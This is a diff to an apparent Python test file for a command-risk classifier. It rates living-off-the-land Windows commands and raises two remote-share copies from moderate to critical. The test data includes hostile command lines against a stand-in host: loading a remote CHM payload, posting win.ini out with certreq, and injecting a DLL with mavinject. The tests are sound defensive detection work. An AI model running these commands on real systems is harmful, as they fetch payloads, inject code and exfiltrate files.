@@ -288,9 +288,8 @@ def test_upload_spellings(command: str, expected: RiskLevel) -> None:
 
 LOLBAS_MORE = [
     ("hh.exe http://x.example/payload.chm", C),
-    # (w22, blind19: a copy from a share is a download, moderate, unless it is run)
-    ("esentutl.exe /y \\\\x.example\\share\\a.exe /d C:\\a.exe /o", M),
-    ("expand \\\\x.example\\share\\a.cab C:\\a.cab", M),
+    ("esentutl.exe /y \\\\x.example\\share\\a.exe /d C:\\a.exe /o", C),
+    ("expand \\\\x.example\\share\\a.cab C:\\a.cab", C),
     ("certreq -Post -config http://x.example C:\\Windows\\win.ini out.txt", C),
     ("mavinject.exe 3110 /INJECTRUNNING C:\\x.dll", C),
     ("control.exe C:\\x.cpl", C),
